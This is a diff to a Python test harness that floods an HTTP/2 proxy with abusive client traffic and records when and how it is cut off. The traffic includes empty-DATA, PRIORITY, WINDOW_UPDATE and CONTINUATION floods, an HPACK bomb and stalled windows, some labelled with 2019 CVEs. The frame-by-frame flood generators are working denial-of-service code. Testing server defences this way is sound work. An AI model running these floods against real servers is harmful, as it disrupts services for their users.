@@ -1,12 +1,17 @@
 """What abusive clients do, frame by frame; run as a program, so that the attack does not slow down whoever measures it.
 
-    python -m harness.abuses NAME ADDRESS SECONDS [--once]
+    python -m harness.abuses NAME ADDRESS SECONDS [--once] [--at TIME]
 
 attacks until the time is over (with `--once`: until it is cut off for the first time) and prints one JSON object: frames and
 connections made, how often and with which code the attacker was cut off, and after how many seconds and frames the first time.
+`--at`: begins when the machine's monotonic clock says so, and not when Python has started.
+
+An attacker sends as fast as its socket takes it, until its attack has nothing more to send. DATA keeps within the peer's windows,
+as what is sent beyond them ends a connection for that alone.
 """
 import argparse
 import dataclasses
+import functools
 import itertools
 import json
 import select
@@ -62,6 +67,17 @@ def within_a_request(frames, count):
     return chunks
 
 
+def whole_requests(data, count, chunks):
+    """One request after the other, each of `chunks` times `count` frames of DATA with the same in it, with its end in the last."""
+    def generate():
+        for stream in range(1, 1 << 30, 2):
+            yield frame(HEADERS, END_HEADERS, stream, REQUEST), 1
+            chunk = frame(DATA, 0, stream, data) * count
+            yield from itertools.repeat((chunk, count), chunks - 1)
+            yield frame(DATA, 0, stream, data) * (count - 1) + frame(DATA, END_STREAM, stream, data), count
+    return generate
+
+
 def once(frames, count):
     """The frames, and then nothing more."""
     def chunks():
@@ -79,6 +95,7 @@ def ask(stream, block=REQUEST, flags=END_HEADERS | END_STREAM):
     return frame(HEADERS, flags, stream, block)
 
 
+@functools.cache
 def many_fields(count):
     return b"".join(b"\x40\x02x" + bytes([97 + n % 26]) + b"\x02" + b"%02d" % (n % 100) for n in range(count))
 
@@ -89,7 +106,10 @@ BOMB = REQUEST + b"\x40\x01a\x7f" + bytes([(4000 - 127) & 0x7f | 0x80, (4000 - 1
 
 @dataclasses.dataclass(frozen=True)
 class Attack:
-    """`kind`: how the proxy counts it; `None`: it is not cut off, as a client may do that, and others must not suffer."""
+    """`kind`: how the proxy counts it; `None`: it is not cut off, as a client may do that, and others must not suffer.
+
+    A chunk that begins with DATA has frames of one size alone, of the stream that the last HEADERS opened.
+    """
     kind: str | None
     chunks: Callable
     opening: bytes = OPENING
@@ -123,7 +143,7 @@ ATTACKS = {
     "empty DATA": Attack("empty_data_flood", within_a_request(frame(DATA, 0, 1) * 100, 100), what="CVE-2019-9518"),
     "padding alone": Attack("empty_data_flood", within_a_request(frame(DATA, PADDED, 1, b"\x05" + b"\0" * 5) * 100, 100)),
     "PRIORITY": Attack("priority_flood", endlessly(frame(PRIORITY, 0, 1, b"\0\0\0\0\x10") * 100, 100), what="CVE-2019-9513"),
-    "empty names": Attack("made_you_reset", on_streams(lambda s: ask(s, REQUEST + b"\0\0\0" * 1000), 1, batch=4),
+    "empty names": Attack("made_you_reset", on_streams(lambda s: ask(s, REQUEST + b"\0\0\0" * 200), 1, batch=4),
                           what="CVE-2019-9516"),
     "WINDOW_UPDATE": Attack("window_update_flood", endlessly(frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1") * 500, 500)),
     "unknown frames": Attack("stray_frames", endlessly(frame(0x42, 0xff, 1) * 200, 200)),
@@ -141,8 +161,9 @@ ATTACKS = {
             frame(CONTINUATION, END_HEADERS if n == 4 else 0, s, b"\0\x01a\x7f\x81\x7c" + b"x" * 16000) for n in range(5)),
             7, batch=1)),
     "one octet a frame": Attack("tiny_data_flood", within_a_request(frame(DATA, 0, 1, b"\0") * 500, 500)),
-    "tiny messages": Attack(None, within_a_request(frame(DATA, 0, 1, b"\0\0\0\0\0") * 500, 500)),
-    "many fields": Attack(None, on_streams(lambda s: ask(s, REQUEST + many_fields(1500)), 1, batch=1)),
+    "tiny messages": Attack(
+        None, whole_requests(b"\0\0\0\0\0", 500, 20), opening=OPENING + frame(WINDOW_UPDATE, 0, 0, b"\x3f\0\0\0")),
+    "many fields": Attack("oversized_headers", on_streams(lambda s: ask(s, REQUEST + many_fields(1500)), 1, batch=1)),
     "stalled windows": Attack(
         "stalled_response", once(b"".join(ask(s, GET_LARGE) for s in range(1, 1000, 2)), 500),
         opening=PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))),
@@ -187,7 +208,13 @@ class Attacker:
         self.chunks = attack.chunks()
         self.left = memoryview(attack.opening)
         self.frames = 0
-        self.input = b""
+        self.input = bytearray()
+        self.answers = []
+        self.rest = (b"", 0)          # DATA that waits for windows
+        self.stream = 1               # of DATA
+        self.stream_is_over = False
+        self.window = self.initial_window = self.connection_window = 65535
+        self.idle = False             # nothing to send, for now at least
         self.code = None
         self.done = False
 
@@ -210,11 +237,37 @@ class Attacker:
     def _send(self):
         for _ in range(8):
             if not self.left:
-                chunk, count = next(self.chunks)
-                if not chunk:
+                chunk, count = self._next()
+                self.idle = not chunk
+                if self.idle:
                     return
                 self.left, self.frames = memoryview(chunk), self.frames + count
             self.left = self.left[self.sock.send(self.left):]
+
+    def _next(self):
+        """What to send next, and how many of the attack's frames that is; of DATA as much as the windows have room for."""
+        if self.answers:
+            return self.answers.pop(0), 0
+        (chunk, count), self.rest = self.rest, (b"", 0)
+        if not chunk or self.stream_is_over:
+            chunk, count = next(self.chunks)
+        while self.stream_is_over and self.attack.kind is None and chunk[3] == DATA:
+            chunk, count = next(self.chunks)
+        if len(chunk) < 9 or chunk[3] not in (DATA, HEADERS):
+            return chunk, count
+        stream = int.from_bytes(chunk[5:9], "big")
+        if chunk[3] == HEADERS:
+            self.stream, self.stream_is_over, self.window = stream, False, self.initial_window
+            return chunk, count
+        octets = int.from_bytes(chunk[:3], "big")
+        if not octets:
+            return chunk, count
+        fits = max(0, min(count, min(self.window, self.connection_window) // octets))
+        self.window -= fits * octets
+        self.connection_window -= fits * octets
+        size = fits * (9 + octets)
+        self.rest = (chunk[size:], count - fits)
+        return chunk[:size], fits
 
     def _receive(self):
         try:
@@ -228,15 +281,44 @@ class Attacker:
             pass
         except OSError:
             self.done = True
-        while len(self.input) >= 9 and len(self.input) >= 9 + int.from_bytes(self.input[:3], "big"):
-            size = 9 + int.from_bytes(self.input[:3], "big")
-            if self.input[3] == GOAWAY:
-                self.code = int.from_bytes(self.input[13:17], "big")
-            elif self.input[3] == RST_STREAM and self.attack.kind == "stalled_response" and self.input[9:13] == b"\0\0\0\x0b":
-                self.code = 0xb
-            elif self.input[3] == HEADERS and self.input[4] & END_STREAM and self.attack.kind == "slow_body":
-                self.done = True
-            self.input = self.input[size:]
+        position, end = 0, len(self.input)
+        while end - position >= 9:
+            after = position + 9 + int.from_bytes(self.input[position:position + 3], "big")
+            if after > end:
+                break
+            # Answers to a flood are many: they are not taken apart.
+            if self.input[position + 3] not in (PING, DATA) or self.attack.kind is None:
+                self._arrived(self.input[position:position + 9], self.input[position + 9:after])
+            position = after
+        del self.input[:position]
+
+    def _arrived(self, head, payload):
+        kind, flags, stream = head[3], head[4], int.from_bytes(head[5:], "big")
+        if kind == GOAWAY:
+            self.code = int.from_bytes(payload[4:8], "big")
+        elif kind == RST_STREAM and self.attack.kind == "stalled_response" and payload == b"\0\0\0\x0b":
+            self.code = 0xb
+        elif kind == HEADERS and flags & END_STREAM and self.attack.kind == "slow_body":
+            self.done = True
+        elif kind == WINDOW_UPDATE and stream == 0:
+            self.connection_window += int.from_bytes(payload, "big")
+        elif kind == WINDOW_UPDATE and stream == self.stream:
+            self.window += int.from_bytes(payload, "big")
+        elif kind == RST_STREAM and stream == self.stream:
+            self.stream_is_over = True
+        elif kind == SETTINGS and not flags & ACK:
+            for name, value in struct.iter_unpack(">HI", payload):
+                if name == 4:
+                    self.window += value - self.initial_window
+                    self.initial_window = value
+            self._answer(frame(SETTINGS, ACK))
+        elif kind == PING and not flags & ACK:
+            self._answer(frame(PING, ACK, 0, payload))
+
+    def _answer(self, octets):
+        """Who does only what a client may do answers as well."""
+        if self.attack.kind is None:
+            self.answers.append(octets)
 
     def close(self):
         self.sock.close()
@@ -263,7 +345,11 @@ def attack(name, address, seconds, only_once=False):
             one.step()
             result["frames"] += one.frames - before
             stalled = one.code == 0xb and kind.kind == "stalled_response"
-            if one.done or stalled:
+            if kind.kind is None and one.code == 0:
+                # The connection has had its requests: a client goes on with another.
+                one.close()
+                at_work.remove(one)
+            elif one.done or stalled:
                 result["cut_off"] += 1
                 result["codes"] = sorted({*result["codes"], -1 if one.code is None else one.code})
                 if result["first_cut"] is None:
@@ -279,10 +365,9 @@ def attack(name, address, seconds, only_once=False):
                 at_work.remove(one)
         poll = select.poll()
         for one in at_work:
-            poll.register(one.sock, (select.POLLIN if kind.reads else 0) | (select.POLLOUT if one.left else 0))
-        idle = at_work and not any(one.left for one in at_work)
+            poll.register(one.sock, (select.POLLIN if kind.reads else 0) | (0 if one.idle else select.POLLOUT))
         if not kind.tls and at_work:
-            poll.poll(20 if idle else 50)
+            poll.poll(20)
     for one in at_work:
         one.close()
     return result
@@ -294,7 +379,9 @@ def main():
     parser.add_argument("address")
     parser.add_argument("seconds", type=float)
     parser.add_argument("--once", action="store_true")
+    parser.add_argument("--at", type=float, default=0)
     arguments = parser.parse_args()
+    time.sleep(max(0, arguments.at - time.monotonic()))
     print(json.dumps(attack(arguments.name, arguments.address, arguments.seconds, arguments.once)))
 
 
